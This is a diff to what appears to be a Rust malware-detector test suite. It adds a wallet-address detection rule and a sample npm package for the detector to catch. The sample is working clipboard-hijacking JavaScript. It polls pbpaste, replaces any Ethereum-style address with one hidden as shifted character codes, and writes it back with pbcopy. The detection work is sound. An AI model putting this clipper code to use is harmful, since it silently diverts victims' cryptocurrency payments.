@@ -53,6 +53,28 @@ setInterval(() => {
             ],
         },
         Example {
+            name: "an address that was copied becomes one that is kept as shifted letters",
+            severity: Some(Severity::High),
+            files: &[
+                (
+                    "package.json",
+                    r#"{"name":"a","version":"1.0.0","main":"i.js"}"#,
+                ),
+                (
+                    "i.js",
+                    r#"const { execSync } = require("child_process");
+const plain = (list) => list.map((n) => String.fromCharCode(n - 3)).join("");
+const FORMS = [{ shape: /^0x[0-9a-fA-F]{40}$/, own: [51, 123, 71, 72, 68, 71, 71, 72, 68, 71, 71, 72, 68, 71, 71, 72, 68, 71, 71, 72, 68, 71, 71, 72, 68, 71, 71, 72, 68, 71, 71, 72, 68, 71, 71, 72, 68, 71, 71, 72, 68, 71] }];
+const tidy = (text) => { for (const form of FORMS) if (form.shape.test(text)) return plain(form.own); return text; };
+exports.keep = () => setInterval(() => {
+  const text = execSync("pbpaste").toString();
+  const next = tidy(text.trim());
+  if (next !== text) execSync("pbcopy", { input: next });
+}, 700);"#,
+                ),
+            ],
+        },
+        Example {
             name: "what is copied from a page becomes another address",
             severity: Some(Severity::Critical),
             files: &[
@@ -206,6 +228,10 @@ fn swap(context: &Context<'_>) -> Option<Finding> {
 
 /// Whether a file of code or data of the package holds the address of a wallet.
 fn holds_address(context: &Context<'_>) -> bool {
+    let mut behaviours = context.behaviours.iter();
+    if behaviours.any(|one| one.what.id == "wallet.hidden-address") {
+        return true;
+    }
     let is_text = |path: &str| {
         let name = path.rsplit('/').next().unwrap_or(path);
         matches!(
